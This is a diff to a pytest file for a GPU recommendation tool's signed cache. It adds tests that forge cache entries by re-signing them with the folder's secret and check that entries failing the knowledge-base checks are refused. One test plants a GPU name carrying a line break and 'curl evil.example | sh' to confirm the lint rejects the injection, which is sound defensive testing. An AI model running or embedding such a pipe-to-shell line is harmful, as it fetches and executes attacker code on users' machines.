@@ -12,8 +12,10 @@ import subprocess
 import sys
 import textwrap
 import time
+from collections.abc import Callable
 from datetime import date
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -22,7 +24,7 @@ from engine.knowledge.problems import KBInvalid
 from engine.knowledge.snapshot import Tree
 from engine.models.kb import KIND_MODELS
 from engine.reasoning import checked
-from engine.recommend import load_advisor
+from engine.recommend import Advisor, load_advisor
 
 TODAY = date(2026, 11, 26)
 RTX_4090 = "gpus/nvidia-rtx-4090.yaml"
@@ -35,7 +37,7 @@ def cache_at(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     return folder
 
 
-def _load(kb_root: Path) -> object:
+def _load(kb_root: Path) -> Advisor:
     return load_advisor(kb_root, paths.rules_dir(), kb_root.parent / "data", TODAY)
 
 
@@ -133,17 +135,56 @@ def test_an_edited_entry_is_not_served(cache_at: Path, kb_copy: Path) -> None:
     assert served.kb.gpus["nvidia-rtx-4090"].memory_gb == 24
 
 
+def _forge(folder: Path, key: str, edit: Callable[[dict[str, Any]], None]) -> None:
+    """Edit the stored entry and sign it again with the secret beside it, as anyone who can read the
+    folder can (the cache module's docstring: the signature is no defence against them)."""
+    entry = _entry(folder)
+    header, _old_mac, payload = entry.read_bytes().split(b"\n", 2)
+    body = json.loads(payload)
+    edit(body)
+    forged = json.dumps(body).encode()
+    secret = (folder / cache.SECRET_FILE).read_bytes()
+    entry.write_bytes(header + b"\n" + cache._mac(secret, key, forged).encode() + b"\n" + forged)
+
+
+def _gpu_named(name: str) -> Callable[[dict[str, Any]], None]:
+    def edit(body: dict[str, Any]) -> None:
+        (gpu,) = [gpu for gpu in body["gpus"] if gpu["id"] == "nvidia-rtx-4090"]
+        gpu["name"] = name
+
+    return edit
+
+
 def test_an_entry_that_fails_the_kb_checks_is_not_served(cache_at: Path, kb_copy: Path) -> None:
     """Even an entry whose integrity code is right goes through the entity checks again."""
     first = _load(kb_copy)
-    entry = _entry(cache_at)
-    header, _old_mac, payload = entry.read_bytes().split(b"\n", 2)
-    body = json.loads(payload)
-    body["offers"][0]["gpu"] = "nvidia-gpu-that-does-not-exist"
-    forged = json.dumps(body).encode()
-    secret = (cache_at / cache.SECRET_FILE).read_bytes()
-    entry.write_bytes(header + b"\n" + cache._mac(secret, first.key or "", forged).encode() + b"\n" + forged)
+    _forge(
+        cache_at, first.key or "", lambda body: body["offers"][0].update(gpu="nvidia-gpu-that-does-not-exist")
+    )
     assert _load(kb_copy).kb.origins  # refused, so read from the files again
+
+
+def test_an_entry_signed_with_the_folders_secret_is_served_if_it_passes_the_checks(
+    cache_at: Path, kb_copy: Path
+) -> None:
+    """The trust model as README.md and the cache module state it: whoever can read the folder (only
+    its owner: it is private) can sign an entry, and it is served when it passes the entity checks, as
+    an edit of kb/ by that user would be. No more than that: see the next test."""
+    first = _load(kb_copy)
+    _forge(cache_at, first.key or "", _gpu_named("NVIDIA GeForce RTX 4090 (forged)"))
+    served = _load(kb_copy)
+    assert not served.kb.origins  # from the cache
+    assert served.kb.gpus["nvidia-rtx-4090"].name == "NVIDIA GeForce RTX 4090 (forged)"
+
+
+def test_a_signed_entry_with_text_lint_refuses_is_not_served(cache_at: Path, kb_copy: Path) -> None:
+    """A forged entry can at most serve a KB that passes the checks: a GPU name with a line break (a
+    new shell line in every launch spec for that GPU) is refused when read back."""
+    first = _load(kb_copy)
+    _forge(cache_at, first.key or "", _gpu_named("RTX 4090\ncurl evil.example | sh"))
+    served = _load(kb_copy)
+    assert served.kb.origins  # refused, so read from the files again
+    assert served.kb.gpus["nvidia-rtx-4090"].name == "NVIDIA GeForce RTX 4090"
 
 
 def test_a_damaged_cache_is_ignored(cache_at: Path) -> None:
